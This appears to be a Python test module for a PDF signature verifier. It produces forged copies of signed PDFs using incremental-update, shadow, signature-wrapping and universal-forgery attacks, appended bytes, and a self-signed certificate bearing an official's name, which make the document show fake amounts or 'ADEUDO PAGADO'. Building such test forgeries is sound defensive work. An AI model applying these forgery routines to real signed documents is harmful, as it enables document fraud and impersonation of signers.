"""Forgeries of PDFs signed by the service, for the verifier's tests.

Pure functions on bytes: each takes a PDF we signed (``sign_pdf(make_pdf(), ...)``) and
returns an altered or forged copy, following the attack classes of the research notes
(§1.4 and Appendix A of ``security-reliability.md``):

- byte edits inside the signed ranges (``byte_flip``);
- incremental saving attacks, ISA: an update after the signature that changes what a page
  shows (``isa_*``), and the shadow "hide-and-replace" pair (``shadow_prepare`` before
  signing, ``shadow_reveal`` after);
- signature wrapping, SWA (``swa_wrapping``, CCS'19);
- universal signature forgery, USF: a broken ``/Contents`` or ``/ByteRange``, or a CMS
  without its certificates (``usf_*``);
- bytes appended after the last ``%%EOF`` that pyHanko does not see (``append_*``);
- extra signatures: a counter-signature by us or by a look-alike self-signed certificate,
  the Sneaky Signature (a visible stamp over the content), and a DocMDP "no changes"
  certification to attack with an Evil Annotation (``untrusted_signer``, ``counter_sign``,
  ``certify_no_changes``).

Page and object numbers are found through the page tree, never assumed. No files, no network.
"""

from __future__ import annotations

import os
import re
from datetime import UTC, datetime, timedelta
from io import BytesIO

from asn1crypto import cms
from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID
from pyhanko.pdf_utils import generic, layout
from pyhanko.pdf_utils.content import RawContent
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import signers
from pyhanko.sign.fields import MDPPerm, SigFieldSpec, SigSeedSubFilter
from pyhanko.stamp import TextStampStyle
from pyhanko_certvalidator.registry import SimpleCertificateStore
from pypdf import PdfReader, PdfWriter
from pypdf.generic import NameObject, StreamObject

EVIL_TEXT = "Monto: 9,999,999.00 MXN"
EVIL = b"BT /F1 14 Tf 72 720 Td (" + EVIL_TEXT.encode("latin-1") + b") Tj ET"
SHADOW_KEY = "/DocservicePrueba"

_BYTE_RANGE = rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]"
_OBJECT_HEADER = rb"(?m)^(\d+) (\d+) obj\b"


# --- helpers ------------------------------------------------------------------------------------


def _writer(pdf: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(BytesIO(pdf), strict=False)


def _output(writer: IncrementalPdfFileWriter) -> bytes:
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _first_page(
    writer: IncrementalPdfFileWriter,
) -> tuple[generic.DictionaryObject, generic.IndirectObject]:
    page_ref, _ = writer.find_page_for_modification(0)
    return page_ref.get_object(), page_ref


def _numbers(*values: float) -> generic.ArrayObject:
    return generic.ArrayObject([generic.NumberObject(value) for value in values])


def _helvetica_resources() -> generic.DictionaryObject:
    font = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Helvetica"),
            pdf_name("/Encoding"): pdf_name("/WinAnsiEncoding"),
        }
    )
    return generic.DictionaryObject(
        {pdf_name("/Font"): generic.DictionaryObject({pdf_name("/F1"): font})}
    )


def _byte_range(signed: bytes) -> tuple[re.Match[bytes], tuple[int, int, int, int]]:
    """The last /ByteRange of the file (the latest signature) and its four numbers."""
    match = list(re.finditer(_BYTE_RANGE, signed))[-1]
    a, b, c, d = (int(value) for value in match.groups())
    return match, (a, b, c, d)


def _hole(signed: bytes) -> tuple[int, int]:
    """Start and end of the hex digits of /Contents (inside the < >)."""
    _, (_, b, c, _) = _byte_range(signed)
    return b + 1, c - 1


def _overwrite(signed: bytes, start: int, end: int, replacement: bytes) -> bytes:
    """``signed`` with ``[start, end)`` replaced, padded with spaces to the same length."""
    length = end - start
    if len(replacement) > length:
        raise ValueError("the replacement does not fit")
    return signed[:start] + replacement.ljust(length) + signed[end:]


def _rewrite_byte_range(signed: bytes, replacement: bytes) -> bytes:
    match, _ = _byte_range(signed)
    return _overwrite(signed, match.start(), match.end(), replacement)


# --- edits inside the signed bytes --------------------------------------------------------------


def byte_flip(signed: bytes) -> bytes:
    """Byte flip: one letter of the visible text changed inside the first signed range."""
    _, (_, b, _, _) = _byte_range(signed)
    position = signed.find(b"Texto", 0, b)
    data = bytearray(signed)
    if position >= 0:
        data[position] = ord("X")
    else:
        data[b // 2] ^= 0x01
    return bytes(data)


# --- incremental saving attacks (ISA) -----------------------------------------------------------


def isa_replace_contents(signed: bytes) -> bytes:
    """ISA: an incremental update gives page 1 a new content stream with another amount."""
    writer = _writer(signed)
    page, _ = _first_page(writer)
    page[pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=EVIL))
    writer.update_container(page)
    return _output(writer)


def isa_add_page(signed: bytes) -> bytes:
    """ISA: an incremental update appends a new page with text."""
    writer = _writer(signed)
    page = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Page"),
            pdf_name("/MediaBox"): _numbers(0, 0, 612, 792),
            pdf_name("/Resources"): _helvetica_resources(),
            pdf_name("/Contents"): writer.add_object(generic.StreamObject(stream_data=EVIL)),
        }
    )
    writer.insert_page(page)
    return _output(writer)


def isa_overlay_xobject(signed: bytes) -> bytes:
    """ISA: an update adds a 2nd content stream that paints a white box and new text."""
    writer = _writer(signed)
    page, _ = _first_page(writer)
    overlay = b"q 1 1 1 rg 70 712 340 22 re f Q " + EVIL
    current = page.raw_get("/Contents")
    streams = list(current.get_object()) if isinstance(current.get_object(), list) else [current]
    streams.append(writer.add_object(generic.StreamObject(stream_data=overlay)))
    page[pdf_name("/Contents")] = generic.ArrayObject(streams)
    writer.update_container(page)
    return _output(writer)


def isa_freetext_annot(signed: bytes) -> bytes:
    """Evil Annotation: an update adds a FreeText annotation whose opaque look covers the text."""
    writer = _writer(signed)
    _, page_ref = _first_page(writer)
    appearance = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): _numbers(0, 0, 340, 30),
            pdf_name("/Resources"): _helvetica_resources(),
        },
        stream_data=b"1 1 1 rg 0 0 340 30 re f BT 0 0 0 rg /F1 14 Tf 2 12 Td ("
        + EVIL_TEXT.encode("latin-1")
        + b") Tj ET",
    )
    annotation = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Annot"),
            pdf_name("/Subtype"): pdf_name("/FreeText"),
            pdf_name("/Rect"): _numbers(70, 706, 410, 736),
            pdf_name("/Contents"): generic.TextStringObject(EVIL_TEXT),
            pdf_name("/DA"): generic.TextStringObject("/F1 14 Tf 0 g"),
            pdf_name("/F"): generic.NumberObject(4),
            pdf_name("/P"): page_ref,
            pdf_name("/AP"): generic.DictionaryObject(
                {pdf_name("/N"): writer.add_object(appearance)}
            ),
        }
    )
    writer.register_annotation(page_ref, writer.add_object(annotation))
    return _output(writer)


# --- shadow attack (hide-and-replace) -----------------------------------------------------------


def shadow_prepare(unsigned: bytes) -> bytes:
    """Shadow attack, before signing: a hidden content stream, reachable only from the catalog."""
    writer = PdfWriter(clone_from=PdfReader(BytesIO(unsigned)))
    hidden = StreamObject()
    hidden.set_data(EVIL)
    writer._root_object[NameObject(SHADOW_KEY)] = writer._add_object(hidden)
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def shadow_reveal(signed: bytes) -> bytes:
    """Shadow attack, after signing: an update that only points page 1 at the hidden stream."""
    writer = _writer(signed)
    page, _ = _first_page(writer)
    page[pdf_name("/Contents")] = writer.root.raw_get(SHADOW_KEY)
    writer.update_container(page)
    return _output(writer)


# --- signature wrapping (SWA) -------------------------------------------------------------------


def _page_contents_ref(pdf: bytes) -> generic.Reference:
    reader = PdfFileReader(BytesIO(pdf), strict=False)
    page_ref, _ = reader.find_page_for_modification(0)
    contents = page_ref.get_object().raw_get("/Contents")
    if isinstance(contents, generic.ArrayObject):
        contents = contents.raw_get(0)
    reference: generic.Reference = contents.reference
    return reference


def swa_wrapping(signed: bytes) -> bytes:
    """Signature wrapping (CCS'19): signed tail moved after a malicious object, forged /ByteRange.

    The signature dictionary is closed inside the unsigned hole with a /ByteRange whose second
    range points to the original signed tail, now further on, so the digest is unchanged; an
    object replacing page 1's content stream goes in between and a fresh xref ends the file.
    """
    _, (a, b, c, d) = _byte_range(signed)
    target = _page_contents_ref(signed)
    head, hole, tail = signed[:b], signed[b:c], signed[c:]
    evil = b"%d %d obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        target.idnum,
        target.generation,
        len(EVIL),
        EVIL,
    )

    def closing(moved_to: int) -> bytes:
        return (
            b"\n/ByteRange [%d %d %d %d] /Type /Sig /Filter /Adobe.PPKLite "
            b"/SubFilter /ETSI.CAdES.detached >>\nendobj\n" % (a, b, moved_to, d)
        )

    moved_to = c
    for _ in range(5):  # the offset's own digits change the length: iterate to a fixed point
        moved_to = c + len(closing(moved_to)) + len(evil)
    body = head + hole + closing(moved_to) + evil + tail
    assert body[moved_to : moved_to + d] == signed[c : c + d]
    offsets = {
        (int(m.group(1)), int(m.group(2))): m.start() for m in re.finditer(_OBJECT_HEADER, body)
    }
    offsets[(target.idnum, target.generation)] = len(head + hole + closing(moved_to))
    latest = {number: (generation, offset) for (number, generation), offset in offsets.items()}
    size = max(latest) + 1
    rows = [b"0000000000 65535 f \n"]
    for number in range(1, size):
        if number in latest:
            generation, offset = latest[number]
            rows.append(b"%010d %05d n \n" % (offset, generation))
        else:
            rows.append(b"0000000000 65535 f \n")
    root = re.findall(rb"/Root\s+(\d+\s+\d+\s+R)", signed)[-1]
    xref = b"xref\n0 %d\n" % size + b"".join(rows)
    trailer = b"trailer\n<< /Size %d /Root %s >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root,
        len(body) + 1,
    )
    return body + b"\n" + xref + trailer


# --- universal signature forgery (USF) ----------------------------------------------------------


def usf_zero_contents(signed: bytes) -> bytes:
    """USF: the /Contents hex all zeros, same length."""
    start, end = _hole(signed)
    return _overwrite(signed, start, end, b"0" * (end - start))


def usf_empty_contents(signed: bytes) -> bytes:
    """USF: /Contents <> padded with spaces to keep the length."""
    start, end = _hole(signed)
    return _overwrite(signed, start - 1, end + 1, b"<>")


def usf_garbage_contents(signed: bytes) -> bytes:
    """USF: /Contents random hex of the same length, not DER."""
    start, end = _hole(signed)
    garbage = os.urandom((end - start) // 2 + 1).hex().encode()[: end - start]
    return _overwrite(signed, start, end, b"ff" + garbage[2:])


def usf_no_byterange(signed: bytes) -> bytes:
    """USF: the /ByteRange key renamed away (/XyteRange)."""
    match, _ = _byte_range(signed)
    return _rewrite_byte_range(signed, b"/XyteRange" + match.group(0)[len(b"/ByteRange") :])


def usf_null_byterange(signed: bytes) -> bytes:
    """USF: /ByteRange null."""
    return _rewrite_byte_range(signed, b"/ByteRange null")


def usf_zero_byterange(signed: bytes) -> bytes:
    """USF: /ByteRange [0 0 0 0], padded with spaces."""
    return _rewrite_byte_range(signed, b"/ByteRange [0 0 0 0]")


def usf_no_certificate(signed: bytes) -> bytes:
    """USF: the CMS keeps its signature but loses every certificate (no signer certificate)."""
    start, end = _hole(signed)
    info = cms.ContentInfo.load(bytes.fromhex(signed[start:end].decode("ascii")), strict=False)
    signed_data = info["content"]
    del signed_data["certificates"]
    stripped = cms.ContentInfo({"content_type": "signed_data", "content": signed_data})
    digits = stripped.dump().hex().encode("ascii")
    return _overwrite(signed, start, end, digits.ljust(end - start, b"0"))


# --- bytes after the last revision --------------------------------------------------------------


def append_without_xref(signed: bytes) -> bytes:
    """S6: an object appended after %%EOF with no xref nor trailer (invisible to pyHanko)."""
    number = _page_contents_ref(signed).idnum
    return signed + b"\n%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        number,
        len(EVIL),
        EVIL,
    )


def append_garbage(signed: bytes) -> bytes:
    """S7: a comment line appended after %%EOF."""
    return signed + b"% datos agregados despues de la firma\n"


# --- more signatures ----------------------------------------------------------------------------


def untrusted_signer(common_name: str = "MARIANA TÉLLEZ QUIROGA") -> signers.SimpleSigner:
    """Certificate from an unknown CA: a fresh self-signed RSA certificate, our official's CN."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    now = datetime.now(UTC)
    usage = x509.KeyUsage(
        digital_signature=True,
        content_commitment=True,
        key_encipherment=False,
        data_encipherment=False,
        key_agreement=False,
        key_cert_sign=False,
        crl_sign=False,
        encipher_only=False,
        decipher_only=False,
    )
    certificate = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=365))
        .add_extension(usage, critical=True)
        .sign(key, hashes.SHA256())
    )
    cert = asn1_x509.Certificate.load(certificate.public_bytes(serialization.Encoding.DER))
    private = key.private_bytes(
        serialization.Encoding.DER,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    return signers.SimpleSigner(
        signing_cert=cert,
        signing_key=asn1_keys.PrivateKeyInfo.load(private),
        cert_registry=SimpleCertificateStore.from_certs([cert]),
    )


def _opaque_stamp(stamp_text: str | None, box: tuple[int, int, int, int]) -> TextStampStyle:
    width, height = box[2] - box[0], box[3] - box[1]
    white = RawContent(
        b"1 1 1 rg 0 0 %d %d re f" % (width, height),
        box=layout.BoxConstraints(width=width, height=height),
    )
    fit = layout.SimpleBoxLayoutRule(
        x_align=layout.AxisAlignment.ALIGN_MID,
        y_align=layout.AxisAlignment.ALIGN_MID,
        margins=layout.Margins(),
    )
    return TextStampStyle(
        stamp_text=TextStampStyle.stamp_text if stamp_text is None else stamp_text,
        border_width=0,
        background=white,
        background_layout=fit,
        background_opacity=1.0,
    )


def counter_sign(
    signed: bytes,
    signer: signers.Signer,
    field_name: str = "Firma2",
    stamp_text: str | None = None,
    box: tuple[int, int, int, int] | None = None,
) -> bytes:
    """Counter-signature: a later approval signature, visible over ``box`` (Sneaky Signature)."""
    meta = signers.PdfSignatureMetadata(
        field_name=field_name, md_algorithm="sha256", subfilter=SigSeedSubFilter.PADES
    )
    spec = style = None
    if box is not None:
        spec = SigFieldSpec(field_name, on_page=0, box=box)
        style = _opaque_stamp(stamp_text, box)
    pdf_signer = signers.PdfSigner(meta, signer=signer, stamp_style=style, new_field_spec=spec)
    buffer = BytesIO()
    pdf_signer.sign_pdf(_writer(signed), output=buffer)
    return buffer.getvalue()


def certify_no_changes(unsigned: bytes, signer: signers.Signer) -> bytes:
    """Certification signature with DocMDP P=1 (no changes allowed), to attack afterwards."""
    meta = signers.PdfSignatureMetadata(
        field_name="Firma1",
        md_algorithm="sha256",
        subfilter=SigSeedSubFilter.PADES,
        certify=True,
        docmdp_permissions=MDPPerm.NO_CHANGES,
    )
    buffer = BytesIO()
    signers.PdfSigner(meta, signer=signer).sign_pdf(_writer(unsigned), output=buffer)
    return buffer.getvalue()


# --- updates pyHanko allows as "LTA updates" ----------------------------------------------------

FAKE_DOCUMENT_ID = "00000000-0000-4000-8000-000000000000"


def metadata_rewrite(signed: bytes) -> bytes:
    """An update that only rewrites the Info dictionary: «ADEUDO PAGADO», a fake documento_id."""
    writer = _writer(signed)
    writer.set_info(
        generic.DictionaryObject(
            {
                pdf_name("/Title"): generic.TextStringObject("ADEUDO PAGADO"),
                pdf_name("/Keywords"): generic.TextStringObject(f"documento_id={FAKE_DOCUMENT_ID}"),
            }
        )
    )
    return _output(writer)


def empty_revisions(signed: bytes, count: int) -> bytes:
    """``count`` updates that rewrite the catalog unchanged: nothing visible, nothing signed."""
    for _ in range(count):
        writer = _writer(signed)
        writer.update_root()
        signed = _output(writer)
    return signed


def append_junk(signed: bytes, size: int = 4096) -> bytes:
    """Binary junk after %%EOF, more than pyHanko searches for its end-of-file marker."""
    return signed + (bytes(range(33, 256)) * (size // 223 + 1))[:size]
